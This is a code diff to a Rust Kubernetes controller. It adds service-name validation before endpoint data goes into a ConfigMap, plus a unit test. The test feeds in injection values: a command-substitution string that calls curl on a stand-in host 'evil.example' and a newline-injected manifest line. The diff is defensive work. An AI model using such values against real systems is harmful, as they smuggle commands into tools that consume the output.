@@ -7,7 +7,7 @@
 use std::collections::BTreeMap;
 
 use domain::conditions::Report;
-use domain::endpoint::EndpointStatus;
+use domain::endpoint::{EndpointStatus, is_service_name};
 use domain::message::Message;
 use k8s_openapi::api::core::v1;
 use k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta;
@@ -36,8 +36,9 @@ pub(super) fn is_concerned(object: &ServerlessPrivateEndpoint) -> bool {
 /// What the ConfigMap is to hold; nothing if there is nothing to say. The keys are names that Flux can substitute.
 pub(super) fn content(report: &Report, srv_address: Option<String>) -> BTreeMap<String, String> {
     let Some(endpoint) = report.endpoint.as_ref().filter(|_| !report.lost) else { return BTreeMap::new() };
-    let Some(service) = endpoint.service_name.clone().filter(|_| endpoint.status != EndpointStatus::Deleting)
-    else {
+    // What AWS could not have named is no service, and other tools put what stands here into commands and manifests.
+    let service = endpoint.service_name.clone().filter(|name| is_service_name(name));
+    let Some(service) = service.filter(|_| endpoint.status != EndpointStatus::Deleting) else {
         return BTreeMap::new();
     };
     let entries = [
@@ -175,5 +176,40 @@ fn new(object: &ServerlessPrivateEndpoint, name: &str, content: BTreeMap<String,
         },
         data: Some(content),
         ..v1::ConfigMap::default()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use domain::endpoint::Endpoint;
+
+    use super::*;
+
+    #[test]
+    fn a_service_name_that_aws_could_not_have_made_stands_in_no_output() {
+        let holds = |service: &str| {
+            let endpoint = Endpoint {
+                id: "5f7cac1adf5d6c6306f4b283".parse().unwrap(),
+                status: EndpointStatus::Available,
+                comment: String::new(),
+                service_name: Some(service.to_owned()),
+                vpc_endpoint_id: None,
+                error_message: None,
+            };
+            let report = Report {
+                endpoint: Some(endpoint),
+                lost: false,
+                unchanged: false,
+                shared: false,
+                conditions: Vec::new(),
+                working: None,
+                after: None,
+            };
+            content(&report, None)
+        };
+        assert_eq!(holds("com.amazonaws.vpce.us-east-1.vpce-svc-1")["region"], "us-east-1");
+        for bad in ["", "$(curl evil.example)", "com.amazonaws.vpce.us-east-1.vpce-svc-1\nid: other"] {
+            assert_eq!(holds(bad), BTreeMap::new(), "{bad:?}");
+        }
     }
 }
